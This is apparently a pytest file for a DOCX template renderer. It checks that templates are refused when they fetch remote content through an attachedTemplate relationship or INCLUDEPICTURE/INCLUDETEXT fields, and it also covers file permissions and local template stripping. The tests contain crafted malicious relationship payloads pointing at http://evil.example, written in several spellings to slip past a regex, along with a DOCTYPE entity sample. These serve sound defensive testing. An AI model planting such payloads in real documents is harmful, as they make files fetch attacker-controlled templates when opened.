"""fixa27: what the review of attack27's template refusal found.

The cache's bytecode files are written by :func:`kesu_docs.leftovers.write_file` given a mode
(no copy of its stage-and-rename); the ``.rels`` parts of a template are read as XML, not with a
regex; an attached template on the clerk's own disk is dropped from the copies, not refused."""

from __future__ import annotations

import os
from pathlib import Path

from kesu_docs import leftovers


def test_write_file_given_a_mode_gives_it_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o000)
    try:
        written = leftovers.write_file(tmp_path / "code.cache", b"x", mode=0o600)
        plain = leftovers.write_file(tmp_path / "page.html", b"y")
    finally:
        os.umask(old)
    assert written.stat().st_mode & 0o777 == 0o600
    assert plain.stat().st_mode & 0o777 != 0o600  # no mode: the umask's (nothing changed)
    assert written.read_bytes() == b"x"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


# ------------------------------------------------------------ the .rels parts read as XML
import zipfile  # noqa: E402

import pytest  # noqa: E402
from helpers import changed_template, complaint  # noqa: E402

from kesu_docs.render import template as template_module  # noqa: E402
from kesu_docs.render.renderer import Renderer  # noqa: E402
from kesu_docs.render.template import DocxTemplate, TemplateError  # noqa: E402

_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_EVIL = "http://evil.example/x.dotm"


def _with_parts(tmp_path: Path, parts: dict[str, bytes], drop: str = "") -> Path:
    """The shipped complaint template with ``parts`` added or replaced whole (``drop``: a part
    name left out, when ``parts`` holds it under another spelling)."""
    return changed_template(
        tmp_path, lambda name, data: None if name in parts or name == drop else data, parts
    )


def _rels(inner: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_NS}">{inner}</Relationships>'


_ATTACHED = f'Type="{_RELS}attachedTemplate"'
VARIANTS = {
    "single quotes": _rels(
        f"<Relationship Id='rId1' Type='{_RELS}attachedTemplate' Target='{_EVIL}' TargetMode='External'/>"
    ),
    "open and close": _rels(
        f'<Relationship Id="rId1" {_ATTACHED} Target="{_EVIL}" TargetMode="External"></Relationship>'
    ),
    "a character reference": _rels(
        f'<Relationship Id="rId1" {_ATTACHED} Target="{_EVIL}" TargetMode="&#69;xternal"/>'
    ),
    "spaces around =": _rels(
        f'<Relationship Id = "rId1" {_ATTACHED} Target = "{_EVIL}" TargetMode = "External" />'
    ),
    "a prefix": f'<?xml version="1.0"?><r:Relationships xmlns:r="{_NS}"><r:Relationship Id="rId1" '
    f'{_ATTACHED} Target="{_EVIL}" TargetMode="External"/></r:Relationships>',
}


@pytest.mark.parametrize("spelling", [*VARIANTS, "UTF-16", ".RELS"])
def test_a_remote_attached_template_is_refused_however_its_rels_part_is_written(tmp_path, spelling):
    """Each spelling passed attack27's regex (a template fetching ``http://evil…`` on opening)."""
    part, text = "word/_rels/settings.xml.rels", VARIANTS.get(spelling, VARIANTS["spaces around ="])
    data = text.encode()
    if spelling == "UTF-16":
        data = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    if spelling == ".RELS":
        part = "word/_rels/settings.xml.RELS"
    with pytest.raises(TemplateError) as refused:
        DocxTemplate(_with_parts(tmp_path, {part: data}))
    assert _EVIL in str(refused.value) and "fetches from outside" in str(refused.value)
    assert "从文件外取来" in refused.value.said.zh


def test_a_rels_part_that_is_no_xml_or_declares_entities_refuses_the_template(tmp_path):
    for data in (b"<Relationships", b'<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'):
        with pytest.raises(TemplateError, match="not readable as XML"):
            DocxTemplate(_with_parts(tmp_path / str(len(data)), {"word/_rels/settings.xml.rels": data}))


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "includetext"])
def test_a_field_including_a_file_or_url_is_refused(tmp_path, field):
    """INCLUDEPICTURE / INCLUDETEXT fields Word and LibreOffice fill from the file or URL they
    name (split over runs as Word writes them)."""
    path = _with_parts(tmp_path, {})
    document = zipfile.ZipFile(path).read("word/document.xml").decode()
    run = (
        f'<w:r><w:instrText xml:space="preserve"> {field[:5]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{field[5:]} "http://evil.example/p.png" </w:instrText></w:r>'
    )
    document = document.replace("</w:body>", f"<w:p>{run}</w:p></w:body>", 1)
    path = _with_parts(tmp_path / "b", {"word/document.xml": document.encode()})
    with pytest.raises(TemplateError, match="evil.example/p.png"):
        DocxTemplate(path)


LOCAL_DOTM = r"file:///C:\Users\li\AppData\Roaming\Microsoft\Templates\Company.dotm"


def locally_attached(tmp_path: Path, local: str = LOCAL_DOTM) -> Path:
    """The shipped templates copied under ``tmp_path``, the complaint's given an attached
    template on the clerk's disk as Word writes it (the settings' element and its relationship)."""
    path = _with_parts(tmp_path, {})
    settings = zipfile.ZipFile(path).read("word/settings.xml").decode()
    root = settings.index(">", settings.index("<w:settings")) + 1
    settings = settings[:root] + '<w:attachedTemplate r:id="rId9"/>' + settings[root:]
    if "xmlns:r=" not in settings[:root]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{_RELS[:-1]}" ', 1)
    rel = f'<Relationship Id="rId9" {_ATTACHED} Target="{local}" TargetMode="External"/>'
    return _with_parts(
        tmp_path / "t",
        {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": _rels(rel).encode()},
    )


def test_an_attached_template_on_the_clerks_disk_is_dropped_from_the_copies_not_refused(tmp_path):
    """Word writes ``file:///C:\\Users\\…\\Company.dotm`` in every document made from a company's
    .dotx: attack27 refused such a template. Now it renders, the copies without the link nor
    the settings' ``<w:attachedTemplate>``; one on a share or a server is still refused."""
    path = locally_attached(tmp_path)
    template_module._CACHE.clear()
    made = zipfile.ZipFile(
        __import__("io").BytesIO(Renderer(path.parent).render(complaint(), number="202609001"))
    )
    assert b"attachedTemplate" not in made.read("word/settings.xml")
    assert b"Company.dotm" not in made.read("word/_rels/settings.xml.rels")
    for remote in ("\\\\server\\share\\Company.dotm", "file://server/share/Company.dotm", _EVIL):
        rel = f'<Relationship Id="rId9" {_ATTACHED} Target="{remote}" TargetMode="External"/>'
        folder = tmp_path / str(abs(hash(remote)))
        with pytest.raises(TemplateError, match="attachedTemplate"):
            DocxTemplate(_with_parts(folder, {"word/_rels/settings.xml.rels": _rels(rel).encode()}))
